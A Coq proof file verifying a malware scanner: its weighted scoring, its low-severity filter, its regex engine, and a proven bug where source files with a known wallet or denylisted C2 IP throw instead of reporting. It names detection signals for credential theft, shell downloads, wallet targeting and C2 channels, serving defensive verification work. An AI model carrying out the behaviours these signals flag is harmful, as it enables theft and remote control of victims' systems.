Proof. reflexivity. Qed.

Lemma fold_points (rows : list (bool * Z)) : forall s,
  fold_left (fun score (row : bool * Z) => if fst row then score + snd row else score)
            rows s
  = s + fold_right (fun row acc => points (fst row) (snd row) + acc) 0 rows.
Proof.
  induction rows as [|[b w] rows IH]; intros s; cbn [fold_left fold_right fst snd].
  - lia.
  - rewrite IH. destruct b; unfold points; lia.
Qed.

(** [scoreFinding] as a saturated sum. *)
Lemma scoreFinding_sum (p : Parts) :
  scoreFinding p =
  Z.min (points (invisInIdentifier p) 40 + points (invisAnywhere p) 10
         + points (suspiciousWords p) 25 + points (netFuncs p) 15
         + points (dangerous p) 25 + points (shellDownload p) 35
         + points (hardcodedIp p) 20 + points (b64UrlDecoded p) 45
         + points (pkgPostInstall p) 40 + points (pkgExecNet p) 30
         + points (fileIsExecutableScript p) 10 + points (knownC2Infrastructure p) 60
         + points (solanaBlockchainC2 p) 50 + points (googleCalendarC2 p) 50
         + points (credentialTheft p) 35 + points (vsCodeExtensionAPI p) 20
         + points (cryptoWalletTargeting p) 30
         + points (Nat.leb 3 (multipleSignals p)) 15) 100.
Proof.
  rewrite scoreFinding_fold, fold_points. unfold score_rows.
  cbn [fold_right fst snd]. f_equal. lia.
Qed.

Lemma table_score_sum (p : Parts) :
  table_score p =
  Z.min (points (invisInIdentifier p) 40 + points (invisAnywhere p) 10
         + points (suspiciousWords p) 25 + points (netFuncs p) 15
         + points (dangerous p) 25 + points (shellDownload p) 35
         + points (hardcodedIp p) 20 + points (b64UrlDecoded p) 45
         + points (pkgPostInstall p) 40 + points (pkgExecNet p) 30
         + points (fileIsExecutableScript p) 10 + points (knownC2Infrastructure p) 60
         + points (solanaBlockchainC2 p) 50 + points (googleCalendarC2 p) 50
         + points (credentialTheft p) 35 + points (vsCodeExtensionAPI p) 20
         + points (cryptoWalletTargeting p) 30
         + points (Nat.leb 3 (multipleSignals p)) 15) 100.
Proof.
  unfold table_score, weight_table. cbn [fold_right fst snd].
  fold (points (knownC2Infrastructure p) 60). 
  f_equal. unfold points. lia.
Qed.

Lemma points_range b w : 0 <= w -> 0 <= points b w <= w.
Proof. destruct b; unfold points; lia. Qed.

Lemma points_mono a b w : 0 <= w -> (a = true -> b = true) -> points a w <= points b w.
Proof.
  intros Hw H. destruct a, b; unfold points; try lia;
    specialize (H eq_refl); discriminate H.
Qed.

Lemma leb3_mono n m : (n <= m)%nat -> Nat.leb 3 n = true -> Nat.leb 3 m = true.
Proof. rewrite !Nat.leb_le. lia. Qed.

Lemma filter_true_length (b : bool) (l : list bool) :
  List.length (filter (fun b : bool => b) (b :: l))
  = ((if b then 1 else 0) + List.length (filter (fun b : bool => b) l))%nat.
Proof. cbn [filter]. destruct b; reflexivity. Qed.

Lemma count_signals_mono (p q : Parts) :
  Forall2 (fun a b : bool => a = true -> b = true) (flags p) (flags q) ->
  (count_signals p <= count_signals q)%nat.
Proof.
  unfold flags, count_signals. intros H.
  repeat match goal with
         | H : Forall2 _ (_ :: _) (_ :: _) |- _ => inversion H; subst; clear H
         end.
  repeat match goal with
         | H : ?a = true -> ?b = true |- _ =>
             assert ((if a then 1 else 0) <= (if b then 1 else 0))%nat
               by (destruct a, b; try lia; specialize (H eq_refl); discriminate H);
             clear H
         end.
  rewrite !filter_true_length. cbn [filter List.length]. lia.
Qed.

Lemma more_signals_points (p q : Parts) :
  more_signals p q ->
  points (invisInIdentifier p) 40 <= points (invisInIdentifier q) 40
  /\ points (invisAnywhere p) 10 <= points (invisAnywhere q) 10
  /\ points (suspiciousWords p) 25 <= points (suspiciousWords q) 25
  /\ points (netFuncs p) 15 <= points (netFuncs q) 15
  /\ points (dangerous p) 25 <= points (dangerous q) 25
  /\ points (shellDownload p) 35 <= points (shellDownload q) 35
  /\ points (hardcodedIp p) 20 <= points (hardcodedIp q) 20
  /\ points (b64UrlDecoded p) 45 <= points (b64UrlDecoded q) 45
  /\ points (pkgPostInstall p) 40 <= points (pkgPostInstall q) 40
  /\ points (pkgExecNet p) 30 <= points (pkgExecNet q) 30
  /\ points (fileIsExecutableScript p) 10 <= points (fileIsExecutableScript q) 10
  /\ points (knownC2Infrastructure p) 60 <= points (knownC2Infrastructure q) 60
  /\ points (solanaBlockchainC2 p) 50 <= points (solanaBlockchainC2 q) 50
  /\ points (googleCalendarC2 p) 50 <= points (googleCalendarC2 q) 50
  /\ points (credentialTheft p) 35 <= points (credentialTheft q) 35
  /\ points (vsCodeExtensionAPI p) 20 <= points (vsCodeExtensionAPI q) 20
  /\ points (cryptoWalletTargeting p) 30 <= points (cryptoWalletTargeting q) 30
  /\ points (Nat.leb 3 (multipleSignals p)) 15 <= points (Nat.leb 3 (multipleSignals q)) 15.
Proof.
  intros [Hflags Hcount]. unfold flags in Hflags.
  repeat match goal with
         | H : Forall2 _ (_ :: _) (_ :: _) |- _ => inversion H; subst; clear H
         end.
  repeat split; apply points_mono; try lia; try assumption.
  apply leb3_mono. exact Hcount.
Qed.

Lemma scoreFinding_mono (p q : Parts) :
  more_signals p q -> scoreFinding p <= scoreFinding q.
Proof.
  intros H. apply more_signals_points in H. rewrite !scoreFinding_sum. lia.
Qed.

Lemma scoreFinding_range (p : Parts) : 0 <= scoreFinding p <= 100.
Proof.
  rewrite scoreFinding_sum.
  pose proof (points_range (invisInIdentifier p) 40).
  pose proof (points_range (invisAnywhere p) 10).
  pose proof (points_range (suspiciousWords p) 25).
  pose proof (points_range (netFuncs p) 15).
  pose proof (points_range (dangerous p) 25).
  pose proof (points_range (shellDownload p) 35).
  pose proof (points_range (hardcodedIp p) 20).
  pose proof (points_range (b64UrlDecoded p) 45).
  pose proof (points_range (pkgPostInstall p) 40).
  pose proof (points_range (pkgExecNet p) 30).
  pose proof (points_range (fileIsExecutableScript p) 10).
  pose proof (points_range (knownC2Infrastructure p) 60).
  pose proof (points_range (solanaBlockchainC2 p) 50).
  pose proof (points_range (googleCalendarC2 p) 50).
  pose proof (points_range (credentialTheft p) 35).
  pose proof (points_range (vsCodeExtensionAPI p) 20).
  pose proof (points_range (cryptoWalletTargeting p) 30).
  pose proof (points_range (Nat.leb 3 (multipleSignals p)) 15).
  lia.
Qed.

Lemma flags_set_multipleSignals p n : flags (set_multipleSignals p n) = flags p.
Proof. reflexivity. Qed.

(** Claim C6.  The score is an integer between 0 and 100; it does not
    decrease when signals are added, be it in the record that
    [scoreFinding] reads or in the signals from which [inspect] derives its
    count; and it is the sum of the weights of the table of the
    specification over the signals that are set, saturated at 100. *)
Theorem scoreFinding_saturating_sum (p : Parts) :
  0 <= scoreFinding p <= 100
  /\ (forall q, more_signals p q -> scoreFinding p <= scoreFinding q)
  /\ (forall q, Forall2 (fun a b : bool => a = true -> b = true) (flags p) (flags q) ->
        scoreFinding (set_multipleSignals p (count_signals p))
        <= scoreFinding (set_multipleSignals q (count_signals q)))
  /\ scoreFinding p = table_score p.
Proof.
  split; [|split; [|split]].
  - apply scoreFinding_range.
  - intros q. apply scoreFinding_mono.
  - intros q Hflags. apply scoreFinding_mono. split.
    + rewrite !flags_set_multipleSignals. exact Hflags.
    + cbn [multipleSignals set_multipleSignals]. apply count_signals_mono. exact Hflags.
  - rewrite scoreFinding_sum, table_score_sum. reflexivity.
Qed.

Lemma scoreFinding_saturating_sum_witness :
  scoreFinding no_parts <= scoreFinding parts_55
  /\ scoreFinding parts_55 = table_score parts_55.
Proof.
  destruct (scoreFinding_saturating_sum no_parts) as (_ & Hmono & _).
  destruct (scoreFinding_saturating_sum parts_55) as (_ & _ & _ & Htable).
  split; [|exact Htable].
  apply Hmono. split.
  - unfold flags. cbn. repeat constructor; intros; try reflexivity; discriminate.
  - cbn. lia.
Defined.

(** The filter at the end of [inspect], when low findings are not
    included. *)
Lemma conclude_withholds (cfg : Config) (path : jsstring) (parts : Parts)
    (evidence : Details) :
  INCLUDE_LOW cfg = false ->
  let points := scoreFinding (set_multipleSignals parts (count_signals parts)) in
  inspect_conclude cfg path parts evidence = None
  <-> classify points = low /\ number_lt (number_of_Z points) (MIN_SCORE cfg) = true.
Proof.
  intros Hlow. cbv zeta. unfold inspect_conclude. cbv zeta. rewrite Hlow.
  cbn [negb]. rewrite Bool.andb_true_r.
  destruct (classify (scoreFinding (set_multipleSignals parts (count_signals parts))));
    cbn [Level_eqb].
  1-3: split; [discriminate | intros [H _]; discriminate].
  destruct (number_lt _ _); split; try reflexivity; try discriminate; auto.
  intros [_ H]. discriminate.
Qed.

Lemma conclude_returns (cfg : Config) (path : jsstring) (parts : Parts)
    (evidence : Details) :
  let scored := set_multipleSignals parts (count_signals parts) in
  classify (scoreFinding scored) <> low ->
  inspect_conclude cfg path parts evidence
  = Some {| file := path; level := classify (scoreFinding scored);
            score := scoreFinding scored; signals := truthy_signals scored;
            details := evidence |}.
Proof.
  cbv zeta. intros H. unfold inspect_conclude. cbv zeta.
  destruct (classify (scoreFinding (set_multipleSignals parts (count_signals parts))));
    try reflexivity.
  contradiction.
Qed.

(** Claim C4.  When low findings are not included, the end of [inspect]
    withholds the finding exactly when its class is low and its score is
    below [MIN_SCORE]; a finding of any other class is returned, whatever
    [MIN_SCORE] is.  Below is [<] on numbers; for an integer [MIN_SCORE]
    (up to 4096) it is [<] on the integers. *)
Theorem low_severity_filter (cfg : Config) (path : jsstring) (parts : Parts)
    (evidence : Details) :
  INCLUDE_LOW cfg = false ->
  let scored := set_multipleSignals parts (count_signals parts) in
  let points := scoreFinding scored in
  (inspect_conclude cfg path parts evidence = None
   <-> classify points = low /\ number_lt (number_of_Z points) (MIN_SCORE cfg) = true)
  /\ (classify points <> low ->
      inspect_conclude cfg path parts evidence
      = Some {| file := path; level := classify points; score := points;
                signals := truthy_signals scored; details := evidence |})
  /\ (forall minScore : Z,
        0 <= minScore <= 4096 -> MIN_SCORE cfg = number_of_Z minScore ->
        (inspect_conclude cfg path parts evidence = None
         <-> classify points = low /\ points < minScore)).
Proof.
  intros Hlow. cbv zeta.
  pose proof (conclude_withholds cfg path parts evidence Hlow) as Hnone.
  cbv zeta in Hnone.
  split; [exact Hnone|]. split; [apply conclude_returns|].
  intros minScore Hrange Hmin. rewrite Hnone, Hmin.
  rewrite number_lt_of_Z by (apply scoreFinding_range || exact Hrange).
  rewrite Z.ltb_lt. reflexivity.
Qed.

Lemma low_severity_filter_witness :
  inspect_conclude default_config (u "pkg/index.js") parts_35 no_details = None.
Proof.
  apply (proj1 (low_severity_filter default_config (u "pkg/index.js") parts_35 no_details
                  eq_refl)).
  split; reflexivity.
Defined.

(** Claim C5.  With [MIN_SCORE] 60 and low findings not included, signals
    scoring 55 (class medium) are reported, not dropped: the comparison with
    [MIN_SCORE] is made for the class low only, as for the signals scoring
    35, which are dropped.  The manifest of the sample tree, scoring 50, is
    reported by [inspect] in the same way. *)
Theorem medium_below_MIN_SCORE_is_reported :
  MIN_SCORE default_config = number_of_Z 60 /\ INCLUDE_LOW default_config = false
  /\ scoreFinding (set_multipleSignals parts_55 (count_signals parts_55)) = 55
  /\ inspect_conclude default_config (u "pkg/index.js") parts_55 no_details
     = Some {| file := u "pkg/index.js"; level := medium; score := 55;
               signals := [("invisInIdentifier", VTrue); ("netFuncs", VTrue);
                           ("multipleSignals", VCount 2)];
               details := no_details |}
  /\ scoreFinding (set_multipleSignals parts_35 (count_signals parts_35)) = 35
  /\ inspect_conclude default_config (u "pkg/index.js") parts_35 no_details = None
  /\ exists finding,
       fst (inspect (sample_platform sample_tree) default_config (u "pkg/package.json") 0)
       = Normal (Some finding)
       /\ score finding = 50 /\ level finding = medium.
Proof.
  repeat (split; [reflexivity|]).
  eexists. split; [vm_compute; reflexivity|]. split; reflexivity.
Qed.

(** ** The file inspector *)

Lemma str_eqb_eq (a : jsstring) : forall b, str_eqb a b = true <-> a = b.
Proof.
  induction a as [|x a IH]; intros [|y b]; cbn [str_eqb]; split; intros H;
    try reflexivity; try discriminate.
  - apply andb_prop in H as [Hx Hab]. apply N.eqb_eq in Hx. apply IH in Hab. congruence.
  - injection H as -> ->. rewrite N.eqb_refl. apply IH. reflexivity.
Qed.

Lemma test0_exec (re : RegExp.t) (s : jsstring) :
  RegExp.test0 re s = true -> exists m, fst (RegExp.exec re 0 s) = Some m.
Proof.
  unfold RegExp.test0, RegExp.test.
  destruct (RegExp.exec re 0 s) as [[m|] li]; cbn [fst]; intros H.
  - exists m. reflexivity.
  - discriminate H.
Qed.

(** [IP] has no global flag. *)
Lemma matchAll_IP (text : jsstring) :
  RegExp.String_matchAll text IP = Throw RegExp.matchAll_TypeError.
Proof. reflexivity. Qed.

(** The source branch never gets past its first [matchAll]. *)
Lemma inspect_source_rejects (text : jsstring) (lastIndex : nat) :
  fst (inspect_source text lastIndex) = Throw RegExp.matchAll_TypeError.
Proof.
  unfold inspect_source. cbv zeta. cbn [fst]. rewrite matchAll_IP.
  destruct (RegExp.test0 SUS_WORDS text) eqn:Hsus.
  - destruct (test0_exec _ _ Hsus) as [m Hm]. rewrite Hm. reflexivity.
  - reflexivity.
Qed.

Lemma matchAll_TypeError_not_timeout :
  String.eqb (err_message RegExp.matchAll_TypeError) "timeout" = false.
Proof. reflexivity. Qed.



(** Claim C2.  On a source file that holds the known wallet and nothing
    else (the wallet pattern matches it, the Solana vocabulary does not),
    [inspect] rejects with the TypeError of [matchAll]: no signal is
    reported. *)
Theorem known_wallet_file_is_rejected :
  Buffer_toString (sample_content wallet_js) = KNOWN_SOLANA_WALLET
  /\ RegExp.test0 SOLANA_WALLET KNOWN_SOLANA_WALLET = true
  /\ RegExp.test0 SOLANA_KEYWORDS KNOWN_SOLANA_WALLET = false
  /\ inspect (sample_platform sample_tree) default_config (sample_path wallet_js) 0
     = (Throw RegExp.matchAll_TypeError, 0%nat).
Proof. repeat split; vm_compute; reflexivity. Qed.

(** Claim C3.  On a source file that holds the address 217.69.3.218 (an
    IPv4 literal, not private, on the denylist), [inspect] rejects with the
    TypeError of [matchAll]: no signal is reported. *)
Theorem public_ip_file_is_rejected :
  RegExp.String_match (Buffer_toString (sample_content beacon_js))
                      (re_g (RegExp.source IP))
  = Some [u "217.69.3.218"]
  /\ is_private_ip (u "217.69.3.218") = false
  /\ includes KNOWN_C2_IPS (u "217.69.3.218") = true
  /\ inspect (sample_platform sample_tree) default_config (sample_path beacon_js) 0
     = (Throw RegExp.matchAll_TypeError, 0%nat).
Proof. repeat split; vm_compute; reflexivity. Qed.


Lemma nonempty_filter {A} (f : A -> bool) (x : A) (l : list A) :
  In x l -> f x = true -> nonempty (filter f l) = true.
Proof.
  intros Hin Hf.
  assert (H : In x (filter f l)) by (apply filter_In; split; assumption).
  destruct (filter f l); [contradiction|reflexivity].
Qed.

Lemma extname_package_json (path : jsstring) :
  path_basename path = u "package.json" -> path_extname path = u ".json".
Proof. intros H. unfold path_extname. rewrite H. reflexivity. Qed.

(** A file that passes the gates and is named [package.json] gets the
    manifest branch. *)
Lemma inspect_package_json (P : Platform) (cfg : Config) (path : jsstring)
    (st : Stats) (buf : Buffer) (lastIndex : nat) :
  path_basename path = u "package.json" ->
  fs_stat P path = Some st ->
  (size st <= MAX_BYTES)%N ->
  fs_readFile P path = Some buf ->
  isBinaryLikely buf = false ->
  inspect P cfg path lastIndex
  = (Normal (inspect_conclude cfg path
               (fst (inspect_manifest P (Buffer_toString buf)))
               (snd (inspect_manifest P (Buffer_toString buf)))),
     lastIndex).
Proof.
  intros Hbase Hstat Hsize Hread Hbin.
  unfold inspect. unfold jsLike. rewrite (extname_package_json _ Hbase), Hbase, Hstat.
  apply N.ltb_ge in Hsize. rewrite Hsize, Hread, Hbin.
  reflexivity.
Qed.



(** ToString throws on the unconvertible values and on no other. *)
Lemma ToString_outcome (P : Platform) : forall v,
  if unconvertible v then ToString P v = Throw primitive_TypeError
  else exists s, ToString P v = Normal s.
Proof.
  fix IH 1. intros v. destruct v as [|[|]|x|s|l|m]; cbn [unconvertible ToString];
    try (eexists; reflexivity).
  - induction l as [|e l IHl]; cbn [existsb].
    + eexists. reflexivity.
    + pose proof (IH e) as He. destruct (unconvertible e) eqn:Ee; cbn [orb].
      * destruct e; try discriminate Ee; rewrite He; reflexivity.
      * destruct He as [se He].
        assert (Hx : match e with JNull => Normal [] | _ => ToString P e end
                     = Normal (match e with JNull => [] | _ => se end)).
        { destruct e; try exact He; reflexivity. }
        rewrite Hx. cbn [bind].
        destruct (existsb unconvertible l).
        -- unfold bind in IHl |- *.
           match goal with
           | H : match ?c with Normal _ => _ | Throw _ => _ end = _ |- _ =>
               destruct c; [discriminate H|]
           end.
           exact IHl.
        -- destruct IHl as [sl Hl]. unfold bind in Hl |- *.
           match goal with
           | H : match ?c with Normal _ => _ | Throw _ => _ end = _ |- _ =>
               destruct c; [|discriminate H]
           end.
           eexists. reflexivity.
  - destruct (has_own "toString" m); [reflexivity|eexists; reflexivity].
Qed.






Lemma classify_from_40 (points : Z) : 40 <= points -> classify points <> low.
Proof.
  intros H. unfold classify.
  destruct (80 <=? points); [discriminate|].
  destruct (60 <=? points); [discriminate|].
  destruct (Z.leb_spec 40 points); [discriminate|lia].
Qed.






Local Close Scope Z_scope.

(** ** The regular-expression engine *)

Section Engine.
Import RegExp.
Variable ic : bool.
Variable s : jsstring.

Lemma repeat_agrees m clear : local s m ->
  forall fuel min max i cap (k k' : cont),
    i <= List.length s ->
    (forall j c, i <= j <= List.length s -> k j c = k' j c) ->
    repeat m clear k fuel min max i cap = repeat m clear k' fuel min max i cap.
Proof.
  intros Hm. induction fuel as [|fuel IH]; intros min max i cap k k' Hi Hk; [reflexivity|].
  cbn [repeat].
  assert (Hd : m i (clear cap)
                 (fun j cap' =>
                    if Nat.eqb min 0 && Nat.eqb j i then None
                    else repeat m clear k fuel (Nat.pred min) (option_map Nat.pred max) j cap')
               = m i (clear cap)
                   (fun j cap' =>
                      if Nat.eqb min 0 && Nat.eqb j i then None
                      else repeat m clear k' fuel (Nat.pred min) (option_map Nat.pred max) j cap')).
  { apply Hm; [exact Hi|]. intros j c Hj.
    destruct (Nat.eqb min 0 && Nat.eqb j i); [reflexivity|].
    apply IH; [lia|]. intros j' c' Hj'. apply Hk. lia. }
  destruct max as [[|max]|]; [apply Hk; lia| |]; rewrite Hd, (Hk i cap) by lia; reflexivity.
Qed.

Lemma nth_error_in_range (i : nat) (x : N) : nth_error s i = Some x -> S i <= List.length s.
Proof. intros H. apply nth_error_Some. congruence. Qed.

Lemma matcher_local (r : regex) : local s (matcher ic s r).
Proof.
  induction r as [|c|neg rs| |a IHa b IHb|a IHa b IHb|min max a IHa|n a IHa| | |];
    intros i cap k k' Hi Hk; cbn [matcher].
  - apply Hk. lia.
  - destruct (nth_error s i) as [x|] eqn:E; [|reflexivity].
    apply nth_error_in_range in E. rewrite (Hk (S i) cap) by lia. reflexivity.
  - destruct (nth_error s i) as [x|] eqn:E; [|reflexivity].
    apply nth_error_in_range in E. rewrite (Hk (S i) cap) by lia. reflexivity.
  - destruct (nth_error s i) as [x|] eqn:E; [|reflexivity].
    apply nth_error_in_range in E. rewrite (Hk (S i) cap) by lia. reflexivity.
  - apply IHa; [exact Hi|]. intros j c Hj. apply IHb; [lia|].
    intros j' c' Hj'. apply Hk. lia.
  - rewrite (IHa i cap k k' Hi Hk), (IHb i cap k k' Hi Hk). reflexivity.
  - apply (repeat_agrees _ _ IHa); assumption.
  - apply IHa; [exact Hi|]. intros j c Hj. apply Hk. exact Hj.
  - rewrite (Hk i cap) by lia. reflexivity.
  - rewrite (Hk i cap) by lia. reflexivity.
  - rewrite (Hk i cap) by lia. reflexivity.
Qed.

(** Beyond [min + (length s - i)] the fuel of a quantifier's loop does not
    matter: [min] iterations may match the empty string, every other one
    takes a code unit of the input. *)
Lemma repeat_fuel m clear : local s m ->
  forall fuel fuel' min max i cap (k : cont),
    i <= List.length s ->
    min + (List.length s - i) < fuel ->
    min + (List.length s - i) < fuel' ->
    repeat m clear k fuel min max i cap = repeat m clear k fuel' min max i cap.
Proof.
  intros Hm. induction fuel as [|fuel IH]; intros fuel' min max i cap k Hi Hf Hf'; [lia|].
  destruct fuel' as [|fuel']; [lia|]. cbn [repeat].
  assert (Hd : m i (clear cap)
                 (fun j cap' =>
                    if Nat.eqb min 0 && Nat.eqb j i then None
                    else repeat m clear k fuel (Nat.pred min) (option_map Nat.pred max) j cap')
               = m i (clear cap)
                   (fun j cap' =>
                      if Nat.eqb min 0 && Nat.eqb j i then None
                      else repeat m clear k fuel' (Nat.pred min) (option_map Nat.pred max) j cap')).
  { apply Hm; [exact Hi|]. intros j c Hj.
    destruct (Nat.eqb min 0) eqn:Emin; cbn [andb].
    - destruct (Nat.eqb j i) eqn:Ej; [reflexivity|].
      apply Nat.eqb_eq in Emin. apply Nat.eqb_neq in Ej. apply IH; lia.
    - apply Nat.eqb_neq in Emin. apply IH; lia. }
  rewrite Hd. reflexivity.
Qed.

Lemma repeat_passes m clear : passes m ->
  forall fuel min max, passes (fun i cap k => repeat m clear k fuel min max i cap).
Proof.
  intros Hm. induction fuel as [|fuel IH]; intros min max i cap k z H; [discriminate H|].
  cbn [repeat] in H.
  assert (Hd : m i (clear cap)
                 (fun j cap' =>
                    if Nat.eqb min 0 && Nat.eqb j i then None
                    else repeat m clear k fuel (Nat.pred min) (option_map Nat.pred max) j cap')
               = Some z -> exists j c, i <= j /\ k j c = Some z).
  { intros Hz. apply Hm in Hz as (j & c & Hj & Hz).
    destruct (Nat.eqb min 0 && Nat.eqb j i); [discriminate Hz|].
    apply IH in Hz as (j' & c' & Hj' & Hz). exists j', c'. split; [lia|exact Hz]. }
  destruct max as [[|max]|].
  - exists i, cap. split; [lia|exact H].
  - destruct (Nat.eqb min 0); [|exact (Hd H)].
    destruct (m i (clear cap) _) eqn:E; [injection H as <-; exact (Hd eq_refl)|].
    exists i, cap. split; [lia|exact H].
  - destruct (Nat.eqb min 0); [|exact (Hd H)].
    destruct (m i (clear cap) _) eqn:E; [injection H as <-; exact (Hd eq_refl)|].
    exists i, cap. split; [lia|exact H].
Qed.

Lemma matcher_passes (r : regex) : passes (matcher ic s r).
Proof.
  induction r as [|c|neg rs| |a IHa b IHb|a IHa b IHb|min max a IHa|n a IHa| | |];
    intros i cap k z H; cbn [matcher] in H.
  - exists i, cap. split; [lia|exact H].
  - destruct (nth_error s i) as [x|]; [|discriminate H].
    destruct (N.eqb _ _); [|discriminate H]. exists (S i), cap. split; [lia|exact H].
  - destruct (nth_error s i) as [x|]; [|discriminate H].
    destruct (xorb _ _); [|discriminate H]. exists (S i), cap. split; [lia|exact H].
  - destruct (nth_error s i) as [x|]; [|discriminate H].
    destruct (is_line_terminator x); [discriminate H|]. exists (S i), cap. split; [lia|exact H].
  - apply IHa in H as (j & c & Hj & H). apply IHb in H as (j' & c' & Hj' & H).
    exists j', c'. split; [lia|exact H].
  - destruct (matcher ic s a i cap k) eqn:E.
    + injection H as <-. apply (IHa _ _ _ _ E).
    + apply (IHb _ _ _ _ H).
  - apply (repeat_passes _ _ IHa) in H. exact H.
  - apply IHa in H as (j & c & Hj & H). eexists j, _. split; [exact Hj|exact H].
  - destruct (xorb _ _); [|discriminate H]. exists i, cap. split; [lia|exact H].
  - destruct (Nat.eqb i 0); [|discriminate H]. exists i, cap. split; [lia|exact H].
  - destruct (Nat.eqb i _); [|discriminate H]. exists i, cap. split; [lia|exact H].
Qed.


(** The loop of a quantifier, without its fuel: the recursion of
    RepeatMatcher. *)
Lemma Rep_unfold (min : nat) (max : option nat) (a : regex) (i : nat) (cap : captures)
    (k : cont) :
  i <= List.length s ->
  matcher ic s (Rep min max a) i cap k
  = match max with
    | Some O => k i cap
    | _ =>
        let d := fun j cap' =>
          if Nat.eqb min 0 && Nat.eqb j i then None
          else matcher ic s (Rep (Nat.pred min) (option_map Nat.pred max) a) j cap' k in
        if Nat.eqb min 0 then
          match matcher ic s a i (clear_groups a cap) d with
          | Some z => Some z
          | None => k i cap
          end
        else matcher ic s a i (clear_groups a cap) d
    end.
Proof.
  intros Hi. cbn [matcher]. rewrite Nat.add_succ_r. cbn [repeat]. cbv zeta.
  assert (Hd : matcher ic s a i (clear_groups a cap)
                 (fun j cap' =>
                    if Nat.eqb min 0 && Nat.eqb j i then None
                    else repeat (matcher ic s a) (clear_groups a) k
                           (min + List.length s + 1) (Nat.pred min)
                           (option_map Nat.pred max) j cap')
               = matcher ic s a i (clear_groups a cap)
                   (fun j cap' =>
                      if Nat.eqb min 0 && Nat.eqb j i then None
                      else repeat (matcher ic s a) (clear_groups a) k
                             (Nat.pred min + List.length s + 2) (Nat.pred min)
                             (option_map Nat.pred max) j cap')).
  { apply matcher_local; [exact Hi|]. intros j c Hj.
    destruct (Nat.eqb min 0 && Nat.eqb j i); [reflexivity|].
    apply repeat_fuel; [apply matcher_local|lia|lia|lia]. }
  rewrite Hd. reflexivity.
Qed.

End Engine.

Lemma search_bounds (re : RegExp.t) (s : jsstring) (n : nat) : forall i m,
  RegExp.search re s i n = Some m ->
  i <= RegExp.index m < i + n /\ RegExp.index m <= RegExp.endIndex m.
Proof.
  induction n as [|n IH]; intros i m H; [discriminate H|]. cbn [RegExp.search] in H.
  destruct (RegExp.matcher _ _ _ i [] _) as [[e c]|] eqn:E.
  - injection H as <-. cbn [RegExp.index RegExp.endIndex].
    apply matcher_passes in E as (j & c' & Hj & E). injection E as -> _. lia.
  - apply IH in H. lia.
Qed.


(** Beyond [length s + 1 - li] the fuel of the loop over all matches does
    not matter: every match moves [lastIndex] forward. *)
Lemma exec_all_fuel (re : RegExp.t) (s : jsstring) (fuel : nat) : forall fuel' li,
  S (List.length s) - li < fuel -> S (List.length s) - li < fuel' ->
  RegExp.exec_all re s fuel li = RegExp.exec_all re s fuel' li.
Proof.
  induction fuel as [|fuel IH]; intros fuel' li Hf Hf'; [lia|].
  destruct fuel' as [|fuel']; [lia|]. cbn [RegExp.exec_all].
  destruct (RegExp.search_from re s li) as [m|] eqn:E; [|reflexivity].
  unfold RegExp.search_from in E. apply search_bounds in E.
  f_equal. destruct (Nat.eqb_spec (RegExp.endIndex m) (RegExp.index m)); apply IH; lia.
Qed.

(** ** The worker pool *)

(** *** Workers and their list *)

Lemma set_nth_length {A} (x : A) (l : list A) : forall n,
  List.length (set_nth n x l) = List.length l.
Proof.
  induction l as [|y l IH]; intros [|n]; cbn [set_nth List.length]; auto.
Qed.

Lemma set_nth_weight (ws : list worker) : forall n old new,
  nth_error ws n = Some old ->
  list_sum (map worker_weight (set_nth n new ws)) + worker_weight old
  = list_sum (map worker_weight ws) + worker_weight new.
Proof.
  induction ws as [|w ws IH]; intros [|n] old new H; cbn in H; try discriminate.
  - injection H as ->. simpl. lia.
  - simpl. specialize (IH n old new H). lia.
Qed.

Lemma awaiting_start (ws : list worker) : forall n f,
  nth_error ws n = Some Polling ->
  Permutation (awaiting (set_nth n (Awaiting f) ws)) (f :: awaiting ws).
Proof.
  induction ws as [|w ws IH]; intros [|n] f H; cbn in H; try discriminate.
  - injection H as ->. reflexivity.
  - cbn [set_nth]. unfold awaiting in *. cbn [flat_map].
    rewrite (IH n f H). symmetry. apply Permutation_middle.
Qed.

Lemma awaiting_end (ws : list worker) : forall n f,
  nth_error ws n = Some (Awaiting f) ->
  Permutation (awaiting ws) (f :: awaiting (set_nth n Polling ws)).
Proof.
  induction ws as [|w ws IH]; intros [|n] f H; cbn in H; try discriminate.
  - injection H as ->. reflexivity.
  - cbn [set_nth]. unfold awaiting in *. cbn [flat_map].
    rewrite (IH n f H). symmetry. apply Permutation_middle.
Qed.

Lemma awaiting_stop (ws : list worker) : forall n,
  nth_error ws n = Some Polling ->
  awaiting (set_nth n Returned ws) = awaiting ws.
Proof.
  induction ws as [|w ws IH]; intros [|n] H; cbn in H; try discriminate.
  - injection H as ->. reflexivity.
  - cbn [set_nth]. unfold awaiting in *. cbn [flat_map]. rewrite (IH n H). reflexivity.
Qed.

Lemma awaiting_none (ws : list worker) :
  Forall (fun w => w = Returned) ws -> awaiting ws = [].
Proof.
  induction 1 as [|w ws Hw _ IH]; [reflexivity|].
  subst w. exact IH.
Qed.

Lemma returned_kept (ws : list worker) : forall n w,
  w <> Returned -> In Returned (set_nth n w ws) -> In Returned ws.
Proof.
  induction ws as [|x ws IH]; intros [|n] w Hw Hin; cbn [set_nth] in Hin;
    try contradiction.
  - destruct Hin as [E|Hin]; [congruence|right; exact Hin].
  - destruct Hin as [E|Hin]; [left; exact E|right; apply (IH n w Hw Hin)].
Qed.

(** *** What [inspect] can give *)

Lemma conclude_file (cfg : Config) (path : jsstring) (parts : Parts) (evidence : Details)
    (finding : Finding) :
  inspect_conclude cfg path parts evidence = Some finding -> file finding = path.
Proof.
  unfold inspect_conclude. cbv zeta.
  destruct (Level_eqb _ low && negb (INCLUDE_LOW cfg)).
  - destruct (number_lt _ _); [discriminate|]. intros H. injection H as <-. reflexivity.
  - intros H. injection H as <-. reflexivity.
Qed.

Lemma inspect_outcomes (P : Platform) (cfg : Config) (path : jsstring) (lastIndex : nat) :
  fst (inspect P cfg path lastIndex) = Normal None
  \/ fst (inspect P cfg path lastIndex) = Throw RegExp.matchAll_TypeError
  \/ exists finding,
       fst (inspect P cfg path lastIndex) = Normal (Some finding) /\ file finding = path.
Proof.
  unfold inspect.
  destruct (ignoreName (path_basename path)); [left; reflexivity|].
  destruct (fs_stat P path) as [st|]; [|left; reflexivity].
  destruct (N.ltb MAX_BYTES (size st)); [left; reflexivity|].
  destruct (negb (jsLike (toLowerCase (path_extname path)) path)); [left; reflexivity|].
  destruct (fs_readFile P path) as [buf|]; [|left; reflexivity].
  destruct (isBinaryLikely buf); [left; reflexivity|].
  cbv zeta. cbn [fst].
  destruct (negb (str_eqb (toLowerCase (path_extname path)) (u ".json"))).
  - rewrite inspect_source_rejects. right. left. reflexivity.
